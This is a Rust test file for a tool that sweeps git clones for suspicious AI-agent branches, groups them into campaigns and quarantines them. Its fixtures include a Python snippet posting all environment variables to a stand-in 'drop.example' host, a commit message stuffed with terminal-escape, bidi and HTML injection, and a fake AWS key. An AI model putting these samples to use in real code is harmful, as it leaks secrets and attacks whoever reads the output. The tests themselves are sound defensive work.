//! Sweeps over many real clones: what came in and how, what belongs together, what is kept, what is told.

use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::program::{Program, Run};
use crate::pty::Pty;
use crate::world::{CLAUDE, EVIL, World};

/// All worlds play in January 2026.
const SINCE: [&str; 2] = ["--since", "2026-01-01"];

/// A program with a home of its own, and the folders of some clones.
struct Ground {
    program: Program,
    worlds: Vec<World>,
    _home: tempfile::TempDir,
}

impl Ground {
    fn of(worlds: Vec<World>) -> Self {
        let home = tempfile::tempdir().unwrap();
        Self { program: Program::new(home.path(), home.path().join("home")), worlds, _home: home }
    }

    fn folders(&self) -> Vec<String> {
        self.worlds.iter().map(|world| world.path().display().to_string()).collect()
    }

    fn run(&self, more: &[&str]) -> Run {
        let folders = self.folders();
        let args: Vec<&str> =
            ["sweep"].into_iter().chain(folders.iter().map(String::as_str)).chain(SINCE).chain(more.iter().copied()).collect();
        self.program.run(&args)
    }

    fn json(&self, more: &[&str]) -> Value {
        let run = self.run(&[&["--format", "json"], more].concat());
        serde_json::from_str(&run.out).unwrap_or_else(|why| panic!("{why}: {}{}", run.out, run.err))
    }
}

/// A clone with an agent's branch that changes `files`.
fn clone(branch: &str, message: &str, files: &[(&str, &str)]) -> World {
    let mut world = World::new();
    world.agent_branch(branch, message, files);
    world
}

fn refs(campaign: &Value) -> Vec<String> {
    campaign["changes"].as_array().unwrap().iter().map(|name| name.as_str().unwrap().to_owned()).collect()
}

fn bump(world: &mut World, name: &str) {
    world.write("requirements.txt", "flask==3.0.0\n");
    world.commit("Depend on flask");
    world.agent_branch(name, "chore(deps): bump flask from 3.0.0 to 3.0.1", &[("requirements.txt", "flask==3.0.1\n")]);
}

#[test]
fn the_same_patch_in_four_repositories_is_one_campaign_and_benign_bulk_is_none() {
    let mut worlds: Vec<World> =
        (0..4).map(|_| clone("claude/build", "ci: update build configuration", &[(".github/workflows/b.yml", EVIL)])).collect();
    worlds.push(clone("claude/docs", "Say how to build it", &[("docs/build.md", "Run make, then make install, and read what it says.\n")]));
    worlds.iter_mut().for_each(|world| bump(world, "claude/bump-flask"));
    let ground = Ground::of(worlds);
    let sweep = ground.json(&[]);
    assert_eq!(sweep["changes"].as_array().unwrap().len(), 10);
    let campaigns = sweep["campaigns"].as_array().unwrap();
    assert_eq!(campaigns.len(), 1, "{campaigns:#?}");
    let members = refs(&campaigns[0]);
    assert!(members.len() == 4 && members.iter().all(|name| name.ends_with(":claude/build")), "{members:?}");
    let bond = &campaigns[0]["bonds"][0];
    assert_eq!((bond["kind"].as_str(), bond["repositories"].as_u64()), (Some("the same patch"), Some(4)));
    assert!(ground.run(&[]).out.contains("the same patch in 4 repositories"));
    assert_eq!(ground.run(&[]).code, 1, "hard findings are told to the shell");
}

#[test]
fn campaigns_are_bound_by_more_than_one_thread() {
    let host = |call: &str| {
        format!(
            "import os, requests\n\ndef {call}(error):\n    requests.post('https://drop.example/{call}', json={{'env': dict(os.environ), 'e': str(error)}})\n"
        )
    };
    let (one, two) = (host("report"), host("tell_everybody"));
    let by_host =
        [clone("claude/a", "Report errors", &[("src/log.py", &one)]), clone("claude/b", "Improve logging", &[("lib/errors.py", &two)])];
    let session = "\n\nhttps://claude.ai/code/session_01ABCDEFGHJKLMNPQRSTUV";
    let by_session = [
        clone("claude/c", &format!("Add one{session}"), &[("one.py", "x = 1\n")]),
        clone("claude/d", &format!("Add two{session}"), &[("two.py", "y = 2\n")]),
    ];
    let lone = clone("claude/e", "Add one", &[("three.py", "z = 3\n")]);
    let ground = Ground::of(by_host.into_iter().chain(by_session).chain([lone]).collect());
    let sweep = ground.json(&[]);
    let kinds: Vec<(usize, &str)> = sweep["campaigns"]
        .as_array()
        .unwrap()
        .iter()
        .map(|campaign| (refs(campaign).len(), campaign["bonds"][0]["kind"].as_str().unwrap()))
        .collect();
    assert!(kinds.contains(&(2, "the same new host under a hard finding")), "{kinds:?}");
    assert!(kinds.iter().all(|(members, _)| *members == 2) && kinds.len() <= 2, "{kinds:?}: nothing else hangs together");
}

#[test]
fn how_changes_came_in_is_told_with_its_evidence() {
    let mut world = World::new();
    world.agent_branch("claude/good", "Add good", &[("good.py", "x = 1\n")]);
    world.git(&["merge", "-q", "--no-ff", "-m", "Merge branch 'claude/good'", "claude/good"]);
    world.git(&["tag", "v1"]);
    world.agent_branch("claude/self", "Add self", &[("self.py", "y = 1\n")]);
    let merged =
        world.command(CLAUDE).args(["merge", "-q", "--no-ff", "-m", "Merge branch 'claude/self'", "claude/self"]).output().unwrap();
    assert!(merged.status.success());
    world.write("direct.py", "z = 1\n");
    let direct = world.commit_as(CLAUDE, "Add direct");
    world.write("human.py", "w = 1\n");
    world.commit("Add human");
    let ground = Ground::of(vec![world]);
    let sweep = ground.json(&["--state", "merged"]);
    let changes = sweep["changes"].as_array().unwrap();
    let seen = |title: &str| -> Vec<String> {
        let change = changes.iter().find(|change| change["change"]["title"] == title).unwrap_or_else(|| panic!("{title} in {changes:#?}"));
        change["observations"].as_array().unwrap().iter().map(|seen| seen["conduct"].as_str().unwrap().to_owned()).collect()
    };
    assert_eq!(changes.len(), 3, "people's commits are not asked for");
    assert!(seen("Add good").is_empty(), "a person merged it, and plain git keeps no reviews");
    assert_eq!(seen("Add self"), ["unreviewed-merge", "self-merge"]);
    assert_eq!(seen("Add direct"), ["direct-commit"]);
    let good = changes.iter().find(|change| change["change"]["title"] == "Add good").unwrap();
    assert_eq!((good["contained_in"][0]["name"].as_str(), good["stats"]["added"].as_u64()), (Some("v1"), Some(1)));
    assert_eq!(good["landed"]["by"], "maintainer@example.com");
    let plain = ground.run(&["--state", "merged"]).out;
    assert!(plain.contains("direct-commit (1 change)") && plain.contains(&direct[..10]), "{plain}");
    assert_eq!(ground.json(&["--state", "merged", "--all-authors"])["changes"].as_array().unwrap().len(), 5);
    assert_eq!(ground.json(&["--state", "open"])["changes"].as_array().unwrap().len(), 0);
}

/// Whoever commits chooses the date, and must not choose to be overlooked.
#[test]
fn false_dates_take_nothing_out_of_the_window() {
    let world = World::new();
    for (title, date) in [("Add past", "1000000000 +0000"), ("Add future", "4000000000 +0000")] {
        world.write(&format!("{title}.py"), "x = 1\n");
        world.git(&["add", "-A"]);
        let made = world.command(CLAUDE).env("GIT_COMMITTER_DATE", date).args(["commit", "-q", "-m", title]).output().unwrap();
        assert!(made.status.success());
    }
    let titles: Vec<String> = Ground::of(vec![world]).json(&[])["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|change| change["change"]["title"].as_str().unwrap().to_owned())
        .collect();
    assert!(titles.contains(&"Add past".to_owned()) && titles.contains(&"Add future".to_owned()), "{titles:?}");
}

#[test]
fn the_window_and_the_filter_narrow_what_is_swept() {
    let ground = Ground::of(vec![
        clone("claude/build", "ci: update", &[(".github/workflows/b.yml", EVIL)]),
        clone("claude/docs", "Say it", &[("a.md", "words\n")]),
    ]);
    let count = |more: &[&str]| {
        let folders = ground.folders();
        let args: Vec<&str> = ["sweep", &folders[0], &folders[1], "--format", "json"].into_iter().chain(more.iter().copied()).collect();
        let run = ground.program.run(&args);
        serde_json::from_str::<Value>(&run.out).unwrap_or_else(|why| panic!("{why} {}", run.err))["changes"].as_array().unwrap().len()
    };
    assert_eq!(count(&["--since", "2026-01-05", "--until", "2026-01-06"]), 2);
    assert_eq!(count(&["--since", "2026-01-06"]), 0);
    assert_eq!(count(&["--since", "2025-01-01", "--until", "2026-01-05"]), 0);
    assert_eq!(count(&["--since", "2026-01-01", "--filter", "risk>=high"]), 1);
    ground.program.fails(&["sweep", ".", "--since", "2026-01-06", "--until", "2026-01-05"], "--since lies after --until");
    ground.program.fails(&["sweep"], "nothing to sweep was named");
    ground.program.fails(&["sweep", "no-such-thing"], "`no-such-thing` is no folder here");
    assert_eq!(ground.program.run(&["sweep", ".", "--since", "soon"]).code, 2);
}

#[test]
fn a_repository_that_fails_is_told_and_the_others_go_on() {
    let ground = Ground::of(vec![clone("claude/docs", "Say it", &[("a.md", "words\n")])]);
    let bad = ground.program.home.parent().unwrap().join("bad");
    std::fs::create_dir_all(bad.join(".git")).unwrap();
    std::fs::write(bad.join(".git/HEAD"), "nonsense").unwrap();
    let list = ground.program.home.parent().unwrap().join("list.txt");
    std::fs::write(&list, format!("# ours\n{}\n\n{}\n", ground.folders()[0], bad.display())).unwrap();
    let run = ground.program.run(&["sweep", "--repos", list.to_str().unwrap(), "--since", "2026-01-01"]);
    assert_eq!(run.code, 2, "{}{}", run.out, run.err);
    assert!(run.out.contains("Say it") && run.out.contains("not read") && run.err.contains("bad"), "{}{}", run.out, run.err);
    let json = ground.program.run(&["sweep", "--repos", list.to_str().unwrap(), "--since", "2026-01-01", "--format", "json"]);
    let json: Value = serde_json::from_str(&json.out).unwrap();
    assert_eq!(json["gaps"].as_array().unwrap().iter().filter(|gap| gap["failed"] == true).count(), 1);
}

#[test]
fn a_folder_of_clones_is_swept_and_one_clone_counts_once() {
    let folder = tempfile::tempdir().unwrap();
    for name in ["one", "deep/two"] {
        let path = folder.path().join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        let world = clone("claude/x", "Add x", &[("x.py", "x = 1\n")]);
        copy(&world.path(), &path);
    }
    let program = Program::new(folder.path(), folder.path().join("home"));
    let run = program.run(&["sweep", ".", "one", "--since", "2026-01-01", "--format", "json"]);
    let sweep: Value = serde_json::from_str(&run.out).unwrap_or_else(|why| panic!("{why} {}", run.err));
    assert_eq!(sweep["tally"]["repositories"], 2);
    assert_eq!(sweep["changes"].as_array().unwrap().len(), 2);
}

fn copy(from: &Path, to: &Path) {
    assert!(std::process::Command::new("cp").arg("-r").args([from, to]).status().unwrap().success());
}

#[test]
fn every_format_is_whole_and_harmless() {
    let hostile = "Fix \u{1b}[2J\u{202e}gnp | <img src=x> @all [a](http://a.example)";
    let mut world = clone("claude/evil", hostile, &[(".github/workflows/b.yml", EVIL)]);
    world.git(&["merge", "-q", "--no-ff", "-m", "Merge branch 'claude/evil'", "claude/evil"]);
    world.git(&["tag", "v1|x"]);
    world.write("k.py", ["AWS = '", "AKIA", "IOSFODNN7EXAMPLQ", "'\n"].concat());
    world.commit_as(CLAUDE, "Add a key");
    let ground = Ground::of(vec![world]);
    let lines = ground.run(&["--format", "jsonl"]).out;
    assert!(
        lines.lines().count() == 2
            && lines.lines().all(|line| serde_json::from_str::<Value>(line).unwrap()["schema"] == "lazaret/report/v1")
    );
    let sarif: Value = serde_json::from_str(&ground.run(&["--format", "sarif"]).out).unwrap();
    assert!(!sarif["runs"][0]["results"].as_array().unwrap().is_empty());
    let report = ground.run(&["--format", "incident"]).out;
    for part in [
        "## Timeline (UTC)",
        "## Scope",
        "## Campaigns",
        "## Actions taken",
        "## Open duties",
        "## Procedure (SAFE-T2103)",
        "6. Lessons learned",
        "## Limits",
        "v1|x",
        "UNKNOWN",
    ] {
        assert!(report.contains(part), "{part} is not in\n{report}");
    }
    assert!(!report.contains("IOSFODNN7"), "secrets stay out of it");
    for format in ["plain", "json", "jsonl", "sarif", "markdown", "incident"] {
        let run = ground.run(&["--format", format]);
        for text in [&run.out, &run.err] {
            assert!(!text.chars().any(|c| c != '\n' && lazaret::model::inert::hidden(c).is_some()), "{format}: {text:?}");
        }
        if ["markdown", "incident"].contains(&format) {
            let bare: String = run.out.split('`').step_by(2).collect();
            assert!(!bare.contains("<img") && !bare.contains("@all"), "{format}: {bare}");
        }
    }
}

#[test]
fn what_was_judged_is_kept_and_a_new_head_is_judged_again() {
    let mut ground =
        Ground::of(vec![clone("claude/a", "Add a", &[("a.py", "x = 1\n")]), clone("claude/b", "Add b", &[("b.py", "x = 1\n")])]);
    assert!(ground.run(&[]).out.contains("2 changes judged"));
    assert!(ground.run(&[]).out.contains("0 changes judged, 2 kept from an earlier run"));
    ground.worlds[0].checkout("claude/a");
    ground.worlds[0].write("a.py", "x = 2\n");
    ground.worlds[0].commit_as(CLAUDE, "Change a");
    let again = ground.run(&[]).out;
    assert!(again.contains("1 change judged, 1 kept"), "{again}");
    assert!(ground.run(&["--skip-rule", "hidden-unicode"]).out.contains("2 changes judged"), "other rules judge again");
    ground.run(&["--resume"]).is_failure("no sweep with these arguments was cut short");
    let store = ground.program.home.join("state/sweeps.db");
    std::fs::write(&store, "not a database, and longer than a page header would have to be to be taken for one: keep it").unwrap();
    for more in ["-wal", "-shm"] {
        let _ = std::fs::remove_file(PathBuf::from(format!("{}{more}", store.display())));
    }
    ground.run(&[]).is_failure("sweeps.db");
}

/// A clone whose branches take a while to judge.
fn heavy(branches: usize) -> World {
    let mut world = World::new();
    for branch in 0..branches {
        let text: String =
            (0..1500).map(|line| format!("def f{branch}_{line}(a, b):\n    return os.getenv('A{line}') or a.post(b, {line})\n")).collect();
        world.agent_branch(&format!("claude/b{branch}"), &format!("Add part {branch}"), &[(&format!("part{branch}.py"), &text)]);
    }
    world
}

#[test]
fn progress_is_shown_on_a_terminal_and_a_killed_sweep_continues() {
    let world = heavy(24);
    let folder = world.path().display().to_string();
    let program = PathBuf::from(env!("CARGO_BIN_EXE_lazaret"));
    let args = ["sweep", folder.as_str(), "--since", "2026-01-01"];
    let mut pty = Pty::start(program, &args, "");
    pty.until("some are judged", |pty| {
        let seen = String::from_utf8_lossy(&pty.bytes()).into_owned();
        (2..24).any(|done| seen.contains(&format!("changes {done}/24")))
    });
    pty.signal("INT");
    assert_eq!(pty.ends(), 130);
    let said = String::from_utf8_lossy(&pty.bytes()).into_owned();
    assert!(said.contains("they are kept, and the same command continues"), "{said}");
    let home = pty.home().to_owned();
    let again = Program::new(&home, &home);
    let run = again.run(&[&args[..], &["--format", "json"]].concat());
    assert!(run.err.contains("continuing sweep S-"), "{}", run.err);
    let sweep: Value = serde_json::from_str(&run.out).unwrap();
    let (kept, judged) = (sweep["tally"]["kept"].as_u64().unwrap(), sweep["tally"]["judged"].as_u64().unwrap());
    assert!(kept >= 2 && kept + judged == 24, "{kept} kept, {judged} judged");
    assert!(!again.run(&args).err.contains("continuing"), "a sweep that ended is not continued");
}

#[test]
fn a_campaign_is_contained_in_one_plan_over_its_repositories() {
    let worlds: Vec<World> =
        (0..4).map(|_| clone("claude/build", "ci: update build configuration", &[(".github/workflows/b.yml", EVIL)])).collect();
    worlds[3].git(&["merge", "-q", "--no-ff", "-m", "Merge branch 'claude/build'", "claude/build"]);
    worlds.iter().for_each(|world| {
        world.git(&["config", "user.name", "Oncall"]);
        world.git(&["config", "user.email", "oncall@example.com"]);
    });
    let ground = Ground::of(worlds);
    let name = ground.json(&[])["campaigns"][0]["name"].as_str().unwrap().to_owned();
    let held = |world: &World| !world.git(&["for-each-ref", "refs/quarantine"]).is_empty();
    assert_eq!(ground.run(&["--quarantine", &name]).code, 2, "a reason is required");
    ground.run(&["--quarantine", "C-ffffff", "--reason", "x"]).is_failure("this sweep has no campaign C-ffffff; it found C-");
    let shown = ground.run(&["--quarantine", &name, "--reason", "forged", "--dry-run"]);
    assert!(
        shown.code == 0 && shown.out.matches("quarantine ").count() >= 3 && shown.out.contains("proposed, and not part of this plan"),
        "{}",
        shown.out
    );
    assert!(!ground.worlds.iter().any(held), "a dry run holds nothing");
    ground.run(&["--quarantine", &name, "--reason", "forged"]).is_failure("nobody can be asked here");
    let done = ground.run(&["--quarantine", &name, "--reason", "forged", "--yes"]);
    assert_eq!(done.code, 0, "{}{}", done.out, done.err);
    assert_eq!(ground.worlds.iter().map(held).collect::<Vec<_>>(), [true, true, true, false]);
    assert!(done.out.contains("lazaret revert") && done.out.matches("undo: lazaret release Q-").count() == 3, "{}", done.out);
    let again = ground.run(&["--quarantine", &name, "--reason", "forged", "--yes"]);
    assert!(again.code == 0 && again.out.matches("nothing to do: it is so already").count() == 3, "{}", again.out);
    let report = ground.run(&["--format", "incident"]).out;
    assert!(report.contains("[x] preserve evidence") && report.matches(": quarantine by `Oncall").count() == 3, "{report}");
    assert!(report.contains("forged [sweep S-") && report.contains("carried out: ADVISORY"), "{report}");
}

#[test]
fn the_console_shows_campaigns_and_contains_what_is_chosen_in_one_plan() {
    let worlds: Vec<World> =
        (0..3).map(|_| clone("claude/build", "ci: update build configuration", &[(".github/workflows/b.yml", EVIL)])).collect();
    worlds.iter().for_each(|world| {
        world.git(&["config", "user.name", "Oncall"]);
        world.git(&["config", "user.email", "oncall@example.com"]);
    });
    let folders: Vec<String> = worlds.iter().map(|world| world.path().display().to_string()).collect();
    let mut args = vec!["sweep"];
    args.extend(folders.iter().map(String::as_str));
    args.extend(["--since", "2026-01-01", "--console"]);
    let mut pty = Pty::start(PathBuf::from(env!("CARGO_BIN_EXE_lazaret")), &args, "theme = \"dark\"\n");
    pty.shows("the same patch in 3 repositories").press(" ").shows("3 chosen");
    pty.press("j\r").shows("b.yml").press("q").shows("3 chosen");
    pty.press("Q").shows("Why quarantine").press("forged build bot\r").shows("Yes, quarantine").press("y").shows("receipt");
    for world in &worlds {
        assert!(!world.git(&["for-each-ref", "refs/quarantine"]).is_empty(), "each repository holds its part");
    }
    pty.press("q").press("w").shows("■ STOP").press("w").shows("3 chosen").press("q");
    assert_eq!(pty.ends(), 0);
}
